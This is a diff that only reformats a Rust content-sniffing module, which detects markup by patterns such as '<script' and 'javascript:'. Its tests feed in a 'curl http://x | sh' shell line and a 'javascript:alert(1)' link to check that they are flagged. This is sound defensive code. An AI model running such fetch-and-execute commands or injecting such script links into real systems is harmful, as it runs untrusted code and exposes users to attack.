@@ -79,8 +79,18 @@ pub enum MediaType {
 
 /// What makes a text [`MediaType::Markup`], looked for in lower case anywhere in it.
 const MARKUP_SIGNS: [&str; 12] = [
-    "<html", "<!doctype", "<svg", "<?xml", "<script", "<iframe", "<body", "<object", "<embed", "<meta",
-    "<xsl", "javascript:",
+    "<html",
+    "<!doctype",
+    "<svg",
+    "<?xml",
+    "<script",
+    "<iframe",
+    "<body",
+    "<object",
+    "<embed",
+    "<meta",
+    "<xsl",
+    "javascript:",
 ];
 
 impl MediaType {
@@ -100,7 +110,9 @@ impl MediaType {
     /// Decides the type from the content alone; `None` for anything not accepted.
     pub fn sniff(bytes: &[u8]) -> Option<MediaType> {
         // Text formats `infer` knows (XML, HTML, SVG, shell scripts) are judged as text below.
-        if let Some(kind) = infer::get(bytes).filter(|kind| kind.matcher_type() != infer::MatcherType::Text) {
+        if let Some(kind) =
+            infer::get(bytes).filter(|kind| kind.matcher_type() != infer::MatcherType::Text)
+        {
             return match kind.mime_type() {
                 "image/png" => Some(MediaType::Png),
                 "image/jpeg" => Some(MediaType::Jpeg),
@@ -267,7 +279,11 @@ mod tests {
             b"#!/bin/sh\ncurl http://x | sh\n",
             b"lihat <a href=\"javascript:alert(1)\">ini</a>",
         ] {
-            assert_eq!(MediaType::sniff(markup), Some(MediaType::Markup), "{markup:?}");
+            assert_eq!(
+                MediaType::sniff(markup),
+                Some(MediaType::Markup),
+                "{markup:?}"
+            );
         }
         assert_eq!(MediaType::Markup.as_str(), "application/octet-stream");
         assert!(MediaType::Markup.is_opaque() && !MediaType::Text.is_opaque());
